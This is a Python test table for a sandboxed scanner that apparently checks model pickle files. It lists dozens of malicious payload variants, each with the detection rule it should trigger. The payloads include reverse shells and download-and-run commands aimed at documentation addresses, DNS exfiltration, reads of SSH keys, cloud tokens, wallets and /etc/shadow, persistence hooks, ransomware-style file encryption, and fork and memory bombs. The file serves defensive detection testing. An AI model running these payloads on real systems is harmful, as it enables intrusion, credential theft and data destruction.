"""The table: each behaviour of the catalogue, its variants, and what a scan of each must say.

A case is (variant, payload, expected, options). `expected` is a list of words that all have to hold; a word is
`RULE`, `RULE@phase`, `limit:NAME`, `load:OUTCOME`, or several of them joined by `|`, of which one is enough.

Payloads act inside the sandbox only: on files there, on its loopback, on the documentation addresses of RFC 5737 and
RFC 3849, and on the cloud's metadata addresses, which exist in no sandbox and have no documentation twin.
"""

import os
import posix
import shutil
import subprocess
import time
import webbrowser

import acts
from payload import COLUMN, ByName, ByValue, Call, model, py, raw
from unseen import UNSEEN


def sh(command):
    return Call(os.system, command)


def run(*argv):
    return Call(subprocess.Popen, list(argv))


def case(variant, payload, expected, **options):
    return {"variant": variant, "payload": payload, "expected": expected.split(), **options}


HOST = "203.0.113.7"
LIMITS = {"group": "limits"}
INODES = {"group": "inodes"}
ROOT = {"root": True}
COPY_TRUE = "import os, shutil; f = os.memfd_create('x'); os.write(f, open('/bin/true', 'rb').read())"

CATALOGUE = {
    "1 Shell command at load": [
        case("os.system", sh("id"), "DYN-EXEC-SHELL"),
        case("subprocess, shell=True", py("import subprocess; subprocess.run('id; echo done', shell=True)"), "DYN-EXEC-SHELL"),
        case("program without a Python shell call", run("/bin/bash", "-c", "echo $HOME"), "DYN-EXEC-SHELL"),
        case("a shell that is not there", py("import subprocess; subprocess.run(['/bin/zsh', '-c', 'id'])"), "DYN-EXEC-SHELL"),
        case("libc system()", py("import ctypes; ctypes.CDLL(None).system(b'id')"), "DYN-EXEC-SHELL"),
        case("raw execve", raw("X(b'/bin/sh', b'sh', b'-c', b'id')"), "DYN-EXEC-SHELL"),
        case("posix.spawn", Call(posix.posix_spawn, "/bin/sh", ["sh", "-c", "id"], {}), "DYN-EXEC-SHELL"),
    ],
    "2 Second interpreter": [
        case("python3 -c", run("/usr/bin/python3", "-c", "print(1)"), "DYN-EXEC-INTERPRETER"),
        case("perl from a shell", sh("perl -e 'print 1'"), "DYN-EXEC-INTERPRETER|DYN-EXEC-SHELL"),
        case("raw execve of node, which is not there", raw("X(b'/usr/bin/node', b'node', b'-e', b'1')"), "DYN-EXEC-INTERPRETER"),
        case("multiprocessing", py("import subprocess, sys; subprocess.run([sys.executable, '-I', '-c', 'import os'])"), "DYN-EXEC-INTERPRETER"),
    ],
    "3 Download and run": [
        case("urllib, chmod, exec", py(f"""
            import os, subprocess, urllib.request
            try: data = urllib.request.urlopen('http://{HOST}/stage2', timeout=2).read()
            except OSError: data = b'#!/bin/sh\\nid\\n'
            open('/tmp/stage2', 'wb').write(data); os.chmod('/tmp/stage2', 0o755)
            subprocess.run(['/tmp/stage2'])"""), "DYN-NET-CONTACT DYN-EXEC-DOWNLOADED"),
        case("curl in a shell", sh(f"curl -s http://{HOST}/x -o /tmp/x; chmod +x /tmp/x; /tmp/x"), "DYN-EXEC-FETCH"),
        case("wget piped to a shell", run("sh", "-c", f"wget -qO- http://{HOST}/x | sh"), "DYN-EXEC-FETCH"),
        case("raw socket and execve", raw(f"""
            s = S('socket', 2, 1, 0); S('connect', s, ADDRESS('{HOST}', 80), 16); S('write', s, b'GET /x HTTP/1.0\\r\\n\\r\\n', 19)
            f = S('openat', HERE, b'/tmp/stage', 0o101, 0o755); S('write', f, b'#!/bin/sh\\n', 10); os.close(f)
            X(b'/tmp/stage', b'stage')"""), "DYN-NET-CONTACT DYN-EXEC-DOWNLOADED"),
        case("fetched code is executed", py(f"""
            import urllib.request
            try: code = urllib.request.urlopen('http://{HOST}/stage.py', timeout=2).read().decode()
            except OSError: code = 'import os; os.system("id")'
            try: exec(code, dict())
            except SyntaxError: pass"""), "DYN-NET-CONTACT"),
    ],
    "4 Reverse shell": [
        case("Python socket and dup2", py(f"""
            import os, socket, subprocess
            s = socket.socket(); s.connect(('{HOST}', 4444))
            saved = [os.dup(n) for n in (0, 1, 2)]
            for n in (0, 1, 2): os.dup2(s.fileno(), n)
            subprocess.run(['/bin/sh', '-c', 'id'])"""), "DYN-NET-SHELL DYN-NET-CONTACT"),
        case("bash /dev/tcp", sh(f"bash -c 'bash -i >& /dev/tcp/{HOST}/4444 0>&1'"), "DYN-NET-CONTACT DYN-EXEC-SHELL"),
        case("perl", sh(f"""perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton("{HOST}")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -c id");'"""), "DYN-NET-SHELL DYN-NET-CONTACT"),
        case("raw system calls", raw(f"""
            s = S('socket', 2, 1, 0); S('connect', s, ADDRESS('{HOST}', 4444), 16)
            if S('clone', 17, 0, 0, 0, 0) == 0:
                for n in (0, 1, 2): S('dup3', s, n, 0)
                S('execve', b'/bin/sh', A(b'sh', b'-c', b'id'), A()); S('exit_group', 1)
            os.wait()"""), "DYN-NET-SHELL DYN-NET-CONTACT"),
        case("Popen with the socket as its streams", py(f"""
            import socket, subprocess
            s = socket.socket(); s.connect_ex(('{HOST}', 4444))
            subprocess.run(['/bin/sh', '-c', 'id'], stdin=s, stdout=s, stderr=s)"""), "DYN-NET-SHELL DYN-NET-CONTACT"),
    ],
    "5 Listener": [
        case("Python socket", py("import socket; s = socket.socket(); s.bind(('0.0.0.0', 8081)); s.listen()"), "DYN-NET-LISTEN"),
        case("http.server in a child", run("python3", "-c", "import socket; s = socket.socket(); s.bind(('', 8082)); s.listen()"), "DYN-NET-LISTEN"),
        case("raw system calls", raw("s = S('socket', 2, 1, 0); S('bind', s, ADDRESS('0.0.0.0', 4444), 16); S('listen', s, 1)"), "DYN-NET-LISTEN"),
        case("UDP", py("import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.bind(('0.0.0.0', 5353))"), "DYN-NET-LISTEN"),
        case("listening without binding", py("import socket; s = socket.socket(); s.listen()"), "DYN-NET-LISTEN"),
    ],
    "6 HTTP beacon": [
        case("urllib", py(f"import urllib.request; urllib.request.urlopen('http://{HOST}/beacon', timeout=2)"), "DYN-NET-CONTACT"),
        case("https by name", py("import urllib.request; urllib.request.urlopen('https://models.example.com/beacon', timeout=2)"), "DYN-NET-LOOKUP"),
        case("bash /dev/tcp", run("bash", "-c", f"echo GET / > /dev/tcp/{HOST}/80"), "DYN-NET-CONTACT"),
        case("raw system calls", raw(f"s = S('socket', 2, 1, 0); S('connect', s, ADDRESS('{HOST}', 443), 16); S('write', s, b'\\x16\\x03\\x01', 3)"), "DYN-NET-CONTACT"),
        case("http.client POST", py(f"import http.client; c = http.client.HTTPConnection('{HOST}', 8080, timeout=2); c.request('POST', '/', b'x'); c.getresponse().read()"), "DYN-NET-CONTACT"),
        case("IPv6", py("import socket; s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('2001:db8::7', 80))"), "DYN-NET-CONTACT"),
        case("UDP without connecting", py(f"import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'hello', ('{HOST}', 9999))"), "DYN-NET-CONTACT"),
    ],
    "7 DNS exfiltration": [
        case("a long label", py("import socket; socket.getaddrinfo('6b65793d414b4941494f53464f444e4e374558414d504c45736563726574.exfil.example.com', 80)"), "DYN-NET-TUNNEL"),
        case("getent in a shell", sh("getent hosts 4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3.exfil.example.com"), "DYN-NET-TUNNEL"),
        case("a query made by hand", raw(f"""
            label = b'a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6'
            q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(label)]) + label + b'\\7example\\3com\\0\\0\\1\\0\\1'
            s = S('socket', 2, 2, 0); S('sendto', s, q, len(q), 0, ADDRESS('{HOST}', 53), 16)"""), "DYN-NET-TUNNEL"),
        case("many names", py("""
            import socket
            for n in range(30):
              try: socket.gethostbyname('part%d.exfil.example.com' % n)
              except OSError: pass"""), "DYN-NET-TUNNEL"),
    ],
    "8 Cloud metadata": [
        case("urllib", py("import urllib.request; urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=2)"), "DYN-NET-METADATA"),
        case("bash /dev/tcp", run("bash", "-c", "echo GET / > /dev/tcp/169.254.169.254/80"), "DYN-NET-METADATA"),
        case("raw connect", raw("s = S('socket', 2, 1, 0); S('connect', s, ADDRESS('169.254.169.254', 80), 16)"), "DYN-NET-METADATA"),
        case("by name", py("import socket; socket.create_connection(('metadata.google.internal', 80), 2)"), "DYN-NET-METADATA"),
        case("IPv6", py("import socket; s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('fd00:ec2::254', 80))"), "DYN-NET-METADATA"),
    ],
    "9 SSH key theft": [
        case("open", py("import os; open(os.path.expanduser('~/.ssh/id_rsa')).read()"), "DYN-CRED-SSH"),
        case("cat in a shell", sh("cat ~/.ssh/id_*"), "DYN-CRED-SSH"),
        case("raw openat", raw("S('openat', HERE, HOME + b'/.ssh/id_ed25519', 0)"), "DYN-CRED-SSH"),
        case("listing the folder", Call(os.listdir, "/home/model/.ssh"), "DYN-CRED-SSH"),
        case("only asking whether it is there", py("import os; print(os.path.exists('/home/model/.ssh/id_rsa'))"), "DYN-CRED-SSH"),
        case("a copy", py("import shutil; shutil.copy('/home/model/.ssh/id_rsa', '/tmp/k')"), "DYN-CRED-SSH"),
        case("asking in a shell", sh("stat ~/.ssh/id_ed25519"), "DYN-CRED-SSH"),
        case("root's key", py("open('/root/.ssh/id_rsa')"), "DYN-CRED-SSH"),
    ],
    "10 Token theft": [
        case("Hugging Face", py("open('/home/model/.cache/huggingface/token').read()"), "DYN-CRED-TOKEN"),
        case("AWS in a shell", sh("cat ~/.aws/credentials"), "DYN-CRED-TOKEN"),
        case("raw openat of .netrc", raw("S('openat', HERE, HOME + b'/.netrc', 0)"), "DYN-CRED-TOKEN"),
        case("netrc module", py("import netrc; netrc.netrc()"), "DYN-CRED-TOKEN"),
        case("git", py("open('/home/model/.git-credentials').read()"), "DYN-CRED-TOKEN"),
        case("GCP", py("open('/home/model/.config/gcloud/application_default_credentials.json').read()"), "DYN-CRED-TOKEN"),
        case("Azure", run("cat", "/home/model/.azure/msal_token_cache.json"), "DYN-CRED-TOKEN"),
        case("npm and PyPI", sh("cat ~/.npmrc ~/.pypirc"), "DYN-CRED-TOKEN"),
        case("GitHub", raw("S('openat', HERE, HOME + b'/.config/gh/hosts.yml', 0)"), "DYN-CRED-TOKEN"),
        case("Docker", py("open('/home/model/.docker/config.json').read()"), "DYN-CRED-CLUSTER|DYN-CRED-TOKEN"),
        case("Kubernetes", py("open('/home/model/.kube/config').read()"), "DYN-CRED-CLUSTER"),
        case("shell history", py("open('/home/model/.bash_history').read()"), "DYN-CRED-HISTORY"),
    ],
    "11 Browser and wallet theft": [
        case("Chrome", py("open('/home/model/.config/google-chrome/Default/Login Data', 'rb').read()"), "DYN-CRED-BROWSER"),
        case("Firefox in a shell", sh("ls ~/.mozilla/firefox"), "DYN-CRED-BROWSER"),
        case("raw openat of a wallet", raw("S('openat', HERE, HOME + b'/.bitcoin/wallet.dat', 0)"), "DYN-CRED-WALLET"),
        case("sqlite3 on a profile", py("import sqlite3; sqlite3.connect('/home/model/.mozilla/firefox/x.default/cookies.sqlite').execute('select 1')"), "DYN-CRED-BROWSER"),
        case("Ethereum", run("cat", "/home/model/.ethereum/keystore/UTC--2026-01-01"), "DYN-CRED-WALLET"),
    ],
    "12 Environment theft": [
        case("/proc/self/environ", py("open('/proc/self/environ').read()"), "DYN-CRED-ENVIRONMENT"),
        case("cat of the parent's", sh("cat /proc/$PPID/environ"), "DYN-CRED-ENVIRONMENT"),
        case("raw openat", raw("S('openat', HERE, b'/proc/self/environ', 0)"), "DYN-CRED-ENVIRONMENT"),
        case("os.environ sent away", py(f"""
            import os, socket
            s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(repr(dict(os.environ)).encode()[:4000], ('{HOST}', 9999))"""), "DYN-NET-CONTACT DYN-THEFT-PROOF"),
        case("of the first process", py("open('/proc/1/environ').read()"), "DYN-CRED-ENVIRONMENT"),
    ],
    "13 Account files": [
        case("shadow", py("open('/etc/shadow').read()"), "DYN-CRED-SHADOW"),
        case("shadow in a shell", sh("cat /etc/shadow"), "DYN-CRED-SHADOW"),
        case("raw openat of sudoers", raw("S('openat', HERE, b'/etc/sudoers', 0)"), "DYN-CRED-SHADOW"),
        case("passwd", py("open('/etc/passwd').read()"), "DYN-CRED-ACCOUNTS"),
        case("pwd.getpwall", py("import pwd; pwd.getpwall()"), "DYN-CRED-ACCOUNTS"),
        case("the first process", py("open('/proc/1/maps').read()"), "DYN-DISC-PROCESSES"),
    ],
    "14 Recon": [
        case("whoami", run("whoami"), "DYN-EXEC-PROGRAM"),
        case("a shell's inventory", sh("id; uname -a; ls -la ~"), "DYN-EXEC-SHELL"),
        case("raw execve", raw("X(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM"),
        case("os.walk over the home folder", py("import os; list(os.walk('/home/model'))"), "DYN-DISC-HOME"),
        case("the machine's id", py("open('/etc/machine-id').read()"), "DYN-DISC-SYSTEM"),
        case("the list of processes", py("import os; [open('/proc/%s/cmdline' % p).read() for p in os.listdir('/proc') if p.isdigit()]"), "DYN-DISC-PROCESSES", verdicts=["suspicious", "malicious"]),
    ],
    "15 Scheduled tasks": [
        case("cron.d", py("open('/etc/cron.d/update', 'w').write('* * * * * root id')"), "DYN-PERSIST-SCHEDULE"),
        case("crontab in a shell", sh("echo '* * * * * id' | crontab -"), "DYN-EXEC-SCHEDULE"),
        case("raw openat of the spool", raw("S('openat', HERE, b'/var/spool/cron/crontabs/root', 0o101, 0o600)"), "DYN-PERSIST-SCHEDULE"),
        case("systemd user unit", py("import os; d = os.path.expanduser('~/.config/systemd/user'); os.makedirs(d); open(d + '/x.service', 'w').write('[Service]')"), "DYN-PERSIST-SERVICE"),
        case("autostart", sh("mkdir -p ~/.config/autostart; echo > ~/.config/autostart/x.desktop"), "DYN-PERSIST-SERVICE"),
    ],
    "16 Shell start-up": [
        case(".bashrc", py("import os; open(os.path.expanduser('~/.bashrc'), 'a').write('id')"), "DYN-PERSIST-SHELL"),
        case("echo in a shell", sh("echo id >> ~/.profile"), "DYN-PERSIST-SHELL"),
        case("raw openat", raw("S('openat', HERE, HOME + b'/.zshrc', 0o2101, 0o600)"), "DYN-PERSIST-SHELL"),
        case("a rename over it", py("import os; open('/home/model/x', 'w').write('id'); os.rename('/home/model/x', '/home/model/.bashrc')"), "DYN-PERSIST-SHELL"),
        case("through a link", py("import os; os.symlink('/home/model/.bashrc', '/home/model/notes'); open('/home/model/notes', 'w').write('id')"), "DYN-PERSIST-SHELL"),
    ],
    "17 Python start-up": [
        case(".pth", py("import os; d = os.path.expanduser('~/.local/lib/python3.13/site-packages'); os.makedirs(d); open(d + '/x.pth', 'w').write('import os')"), "DYN-PERSIST-PYTHON"),
        case("usercustomize in a shell", sh("mkdir -p ~/.local/lib/python3.13/site-packages; echo > ~/.local/lib/python3.13/site-packages/usercustomize.py"), "DYN-PERSIST-PYTHON"),
        case("raw openat of sitecustomize", raw("S('openat', HERE, b'/usr/lib/python3/dist-packages/sitecustomize.py', 0o101, 0o644)"), "DYN-PERSIST-PYTHON"),
        case("a foreign .pyc", py("open('/usr/lib/python3.13/__pycache__/os.cpython-313.pyc', 'wb')"), "DYN-PERSIST-PYTHON"),
    ],
    "18 SSH backdoor": [
        case("append", py("import os; os.makedirs('/home/model/.ssh', exist_ok=True); open('/home/model/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA')"), "DYN-PERSIST-SSH"),
        case("echo in a shell", sh("mkdir -p ~/.ssh; echo key >> ~/.ssh/authorized_keys"), "DYN-PERSIST-SSH"),
        case("raw openat", raw("S('openat', HERE, b'/root/.ssh/authorized_keys', 0o2101, 0o600)"), "DYN-PERSIST-SSH"),
    ],
    "19 Overwrites files": [
        case("the model", py("import glob; [open(p, 'r+b') for p in glob.glob('/model/*')]"), "DYN-WRITE-MODEL"),
        case("a library", sh("echo >> /usr/lib/python3.13/os.py"), "DYN-WRITE-SYSTEM|DYN-PERSIST-PYTHON"),
        case("raw openat of a dataset", raw("S('openat', HERE, HOME + b'/data.csv', 0o1101, 0o600)"), "DYN-WRITE-HOME"),
        case("a program", py("import shutil; shutil.copy('/bin/true', '/usr/local/bin/python3')"), "DYN-WRITE-SYSTEM"),
        case("beside the model", Call(open, "/model/other.pt", "wb"), "DYN-WRITE-MODEL"),
        case("truncate", py("import os; os.truncate('/etc/hosts', 0)"), "DYN-WRITE-SYSTEM"),
    ],
    "20 Mass delete or encrypt": [
        case("unlink", py("""
            import os
            os.makedirs('/home/model/docs')
            for n in range(20): open(f'/home/model/docs/{n}.txt', 'w').write('text')
            for n in range(20): os.remove(f'/home/model/docs/{n}.txt')"""), "DYN-DELETE-MANY"),
        case("rm -rf", sh("mkdir ~/d; for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo x > ~/d/$n; done; rm -rf ~/d"), "DYN-DELETE-MANY"),
        case("raw unlinkat", raw("for n in range(15): S('unlinkat', HERE, HOME + b'/report%d.doc' % n, 0)"), "DYN-DELETE-MANY"),
        case("rmtree of the home folder", Call(shutil.rmtree, "/home/model", True), "DYN-DELETE-MANY|DYN-DESTROY-DOCUMENTS"),
        case("encrypts and renames", py("""
            import os
            for n in range(15): open(f'/home/model/{n}.doc', 'w').write('text' * 100)
            for n in range(15):
              data = open(f'/home/model/{n}.doc', 'rb').read()
              open(f'/home/model/{n}.doc', 'wb').write(os.urandom(len(data)))
              os.rename(f'/home/model/{n}.doc', f'/home/model/{n}.doc.locked')"""), "DYN-DELETE-MANY|DYN-DESTROY-DOCUMENTS"),
    ],
    "21 Miner": [
        case("xmrig", run("xmrig", "-o", "stratum+tcp://pool.example.com:3333", "-u", "x"), "DYN-EXEC-MINER"),
        case("in a shell", sh("./minerd --url=stratum+tcp://203.0.113.7:3333"), "DYN-EXEC-MINER"),
        case("raw execve", raw("X(b'/tmp/xmrig', b'xmrig', b'--donate-level', b'1')"), "DYN-EXEC-MINER"),
        case("stratum over a socket", py(f"""
            import socket
            s = socket.create_connection(('{HOST}', 3333), 2)
            s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}}\\n')"""), "DYN-NET-MINING"),
    ],
    "22 Fork bomb": [
        case("os.fork", py("import os\nwhile True:\n  try: os.fork()\n  except OSError: pass"), "DYN-LIMIT-PROCESSES", **LIMITS),
        case("shell", sh("b() { b | b & }; b; sleep 1"), "DYN-LIMIT-PROCESSES", **LIMITS),
        case("raw clone", raw("""
            import signal
            for n in range(200):
                if S('clone', 17, 0, 0, 0, 0) == 0: signal.pause()"""), "DYN-LIMIT-PROCESSES", **LIMITS),
        case("threads", py("import threading\nwhile True: threading.Thread(target=threading.Event().wait, daemon=True).start()"), "DYN-LIMIT-PROCESSES", **LIMITS),
    ],
    "23 Disk fill": [
        case("write", py("f = open('/tmp/big', 'wb')\nwhile True: f.write(b'x' * (1 << 20)); f.flush()"), "DYN-LIMIT-DISK", **LIMITS),
        case("dd", sh("dd if=/dev/zero of=/tmp/big bs=1M"), "DYN-LIMIT-DISK", **LIMITS),
        case("raw fallocate", raw("f = S('openat', HERE, b'/dev/shm/big', 0o102, 0o600); S('fallocate', f, 0, 0, 1 << 40)"), "DYN-LIMIT-DISK", **LIMITS),
        case("the home folder", py("import os\nd = os.open('/home/model/x', os.O_CREAT | os.O_WRONLY)\nwhile True: os.write(d, b'x' * (1 << 20))"), "DYN-LIMIT-DISK", **LIMITS),
    ],
    "24 Memory bomb": [
        case("bytearray", py("a = []\nwhile True: a.append(bytearray(64 << 20))"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
        case("a child's", py("import subprocess; subprocess.run(['perl', '-e', '@a=(); while(1){push @a, \"x\" x 50000000}'])"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
        case("raw mmap", raw("""
            C.mmap.restype = ctypes.c_void_p
            while True: ctypes.memset(C.mmap(None, ctypes.c_size_t(64 << 20), 3, 0x22, -1, ctypes.c_long(0)), 1, 64 << 20)"""), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
        case("a bomb of decompression", py("import zlib\ndata = zlib.compress(bytes(200 << 20), 9)\na = []\nwhile True: a.append(zlib.decompress(data) + b'x')"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
    ],
    "25 Descriptor exhaustion": [
        case("open", py("a = []\nwhile True: a.append(open('/dev/null'))"), "DYN-LIMIT-FILES", **LIMITS),
        case("perl", sh("perl -e 'for(1..9999){open($f[$_],\"</dev/null\")}'"), "DYN-LIMIT-FILES", **LIMITS),
        case("raw dup", raw("while S('dup', 1) >= 0: pass"), "DYN-LIMIT-FILES", **LIMITS),
        case("sockets", py("import socket\na = []\nwhile True: a.append(socket.socket())"), "DYN-LIMIT-FILES", **LIMITS),
    ],
    "26 Long sleep": [
        case("time.sleep, then acts", py("import os, time; time.sleep(3600); os.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("a call of time.sleep", Call(time.sleep, 7200), "DYN-EVADE-SLEEP", verdicts=["suspicious", "malicious"]),
        case("sleep in a shell", sh("sleep 3600 && id"), "DYN-EVADE-SLEEP"),
        case("raw nanosleep", raw("S('nanosleep', ctypes.byref((ctypes.c_long * 2)(3600, 0)), 0)"), "DYN-EVADE-SLEEP"),
        case("select", py("import os, select; select.select([], [], [], 3600); os.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("Event.wait", py("import os, threading; threading.Event().wait(3600); os.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("poll", py("import os, select; select.poll().poll(3600_000); os.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("many short ones", py("import os, time\nfor n in range(2000): time.sleep(1)\nos.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
        case("asyncio", py("import asyncio, os\nasyncio.run(asyncio.sleep(3600))\nos.system('id')"), "DYN-EVADE-SLEEP DYN-EXEC-SHELL"),
    ],
    "27 Delayed child": [
        case("double fork", py("""
            import os, time
            if os.fork() == 0:
              os.setsid()
              if os.fork() == 0:
                time.sleep(3600); os.execv('/usr/bin/id', ['id'])
              os._exit(0)"""), "DYN-EXEC-PROGRAM"),
        case("nohup in a shell", sh("(sleep 2; exec id) >/dev/null 2>&1 &"), "DYN-EXEC-SHELL"),
        case("raw clone", raw("""
            if S('clone', 17, 0, 0, 0, 0) == 0:
                S('nanosleep', ctypes.byref((ctypes.c_long * 2)(60, 0)), 0); S('execve', b'/usr/bin/id', A(b'id'), A()); S('exit_group', 1)"""), "DYN-EXEC-PROGRAM"),
        case("waits for the end of its parent", py("""
            import os, time
            if os.fork() == 0:
              parent = os.getppid()
              while os.getppid() == parent: time.sleep(0.05)
              os.system('id'); os._exit(0)"""), "DYN-EVADE-LEFT DYN-EXEC-SHELL@after"),
        case("start_new_session", py("import subprocess; subprocess.Popen(['sleep', '1'], start_new_session=True)"), "DYN-EXEC-PROGRAM"),
    ],
    "28 Background thread": [
        case("threading", py("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()"), "DYN-EXEC-SHELL"),
        case("a daemon that waits", py("import os, threading, time\ndef f():\n  time.sleep(60); os.system('id')\nthreading.Thread(target=f).start()"), "DYN-EXEC-SHELL"),
        case("_thread", py("import _thread, os, time; _thread.start_new_thread(os.system, ('id',)); time.sleep(1); [0 for _ in range(10**7)]"), "DYN-EXEC-SHELL"),
        case("a pool", py("import concurrent.futures, os; concurrent.futures.ThreadPoolExecutor().submit(os.system, 'id')"), "DYN-EXEC-SHELL"),
        case("pthread_create of system()", py("import ctypes; c = ctypes.CDLL(None); t = ctypes.c_ulong(); a = ctypes.create_string_buffer(b'id'); c.pthread_create(ctypes.byref(t), None, c.system, a); c.pthread_join(t, None)"), "DYN-EXEC-SHELL"),
    ],
    "29 At exit": [
        case("atexit", py("import atexit, os; atexit.register(os.system, 'id')"), "DYN-EXEC-SHELL@exit"),
        case("weakref.finalize", py("import os, sys, weakref; weakref.finalize(sys.modules['os'], os.system, 'id')"), "DYN-EXEC-SHELL@exit"),
        case("libc atexit", py("import ctypes; c = ctypes.CDLL(None); c.strdup.restype = ctypes.c_void_p; c.__cxa_atexit(c.system, ctypes.c_void_p(c.strdup(b'id')), None)"), "DYN-EXEC-SHELL@exit"),
        case("threading's own", py("import os, threading; threading._register_atexit(os.system, 'id')"), "DYN-EXEC-SHELL@exit"),
        case("a standard stream with a payload", py("import os, sys\nclass S:\n  def flush(self): os.system('id')\n  def write(self, x): pass\nsys.stdout = S()"), "DYN-EXEC-SHELL@exit"),
    ],
    "30 Finaliser": [
        case("__del__", model("class M:\n  def __del__(self):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@collect|DYN-EXEC-SHELL@use", **ROOT),
        case("__del__, class by value", ByValue("class M:\n  def __del__(self):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@collect|DYN-EXEC-SHELL@use"),
        case("weakref callback", model("import os, weakref\nclass M:\n  def __init__(self): keep.append(weakref.ref(self, lambda _: os.system('id')))\nkeep = []\nimport sys; sys.kept_for_later = keep"), "DYN-EXEC-SHELL@collect|DYN-EXEC-SHELL@use", **ROOT),
        case("gc.callbacks", py("import gc, os\ndef f(phase, info):\n  gc.callbacks.remove(f); os.system('id')\ngc.callbacks.append(f)"), "DYN-EXEC-SHELL"),
    ],
    "31 Only when used": [
        case("called", model("class M:\n  def __call__(self, *a):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use", **ROOT),
        case("called, class by value", ByValue("class M:\n  def __call__(self, *a):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use"),
        case("shown", model("class M:\n  def __repr__(self):\n    import os; os.system('id'); return 'M'"), "DYN-EXEC-SHELL@use"),
        case("predict", model("class M:\n  n_features_in_ = 3\n  def predict(self, x):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use", **ROOT),
        case("predict without a hint of its shape", model("class M:\n  def predict(self, x):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use", **ROOT),
        case("forward with an argument", model("import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    import os; os.system('id'); return x"), "DYN-EXEC-SHELL@use", containers=["torch-zip"], **ROOT),
        case("transform", model("class M:\n  n_features_in_ = 3\n  def fit(self, x): return self\n  def transform(self, x):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use", **ROOT),
        case("in a checkpoint", model("class M:\n  def predict(self, x):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use"),
        case("a property", model("class M:\n  @property\n  def classes_(self):\n    import os; os.system('id')"), "DYN-EXEC-SHELL@use", **ROOT),
        case("iterated", model("class M:\n  def __iter__(self):\n    import os; os.system('id'); return iter([])\n  def __len__(self): return 1"), "DYN-EXEC-SHELL@use", **ROOT),
        case("an attribute", model("class M:\n  def __getattr__(self, name):\n    if name.startswith('__'): raise AttributeError(name)\n    import os; os.system('id'); return 1"), "DYN-EXEC-SHELL@use", **ROOT),
    ],
    "32 Module beside the model": [
        case("sys.path and import", py("import sys; sys.path.insert(0, '/model'); import planted_module"), "DYN-EXEC-SIBLING"),
        case("runpy", py("import runpy; runpy.run_path('/model/planted.py')"), "DYN-EXEC-SIBLING"),
        case("raw openat", raw("S('openat', HERE, b'/model/helper.py', 0)"), "DYN-EXEC-SIBLING"),
        case("a library", py("import ctypes; ctypes.CDLL('/model/planted.so')"), "DYN-EXEC-LIBRARY"),
        case("a second Python", run("python3", "/model/planted.py"), "DYN-EXEC-INTERPRETER"),
        case("by the pickle's own global", ByName("planted_module.run", "x"), "load:missing-dependency", verdicts=["inconclusive", "suspicious", "malicious"]),
    ],
    "33 For another system": [
        case("nt.system", ByName("nt.system", "calc.exe"), "DYN-PY-OTHER-SYSTEM"),
        case("winreg", ByName("winreg.CreateKey", "x"), "DYN-PY-OTHER-SYSTEM", verdicts=["suspicious", "malicious"]),
        case("calc.exe", py("import subprocess; subprocess.run(['calc.exe'])"), "DYN-EXEC-OTHER-SYSTEM"),
        case("open -a", sh("open -a Calculator"), "DYN-EXEC-SHELL"),
        case("raw execve", raw("X(b'/Windows/System32/cmd.exe', b'cmd.exe', b'/c', b'calc')"), "DYN-EXEC-OTHER-SYSTEM"),
        case("os.startfile", ByName("os.startfile", "calc.exe"), "DYN-PY-OTHER-SYSTEM"),
    ],
    "34 Opens a web page": [
        case("webbrowser.open", Call(webbrowser.open, "http://192.0.2.9/"), "DYN-PY-BROWSER|DYN-EXEC-BROWSER"),
        case("xdg-open in a shell", sh("xdg-open http://192.0.2.9/"), "DYN-EXEC-BROWSER|DYN-EXEC-SHELL"),
        case("raw execve", raw("X(b'/usr/bin/xdg-open', b'xdg-open', b'http://192.0.2.9/')"), "DYN-EXEC-BROWSER"),
        case("firefox", py("import subprocess; subprocess.run(['firefox', 'http://192.0.2.9/'])"), "DYN-EXEC-BROWSER"),
    ],
    "35 Silent code": [
        case("exec", Call(exec, "print('hello')"), "DYN-PY-CODE"),
        case("eval", Call(eval, "print('hello')"), "DYN-PY-CODE"),
        case("compile", py("exec(compile('x = 1', 'weights', 'exec'))"), "DYN-PY-CODE"),
        case("marshal", py("import marshal, types; types.FunctionType(marshal.loads(marshal.dumps(compile('print(1)', 'm', 'exec'))), {})()"), "DYN-PY-CODE"),
        case("print alone", Call(print, "hello"), "DYN-PY-GLOBAL|STATIC-PICKLE-UNLISTED|STATIC-PICKLE-SYSTEM", verdicts=["suspicious", "malicious"]),
    ],
    "36 Installs packages": [
        case("pip", run("pip", "install", "example-package"), "DYN-EXEC-INSTALL"),
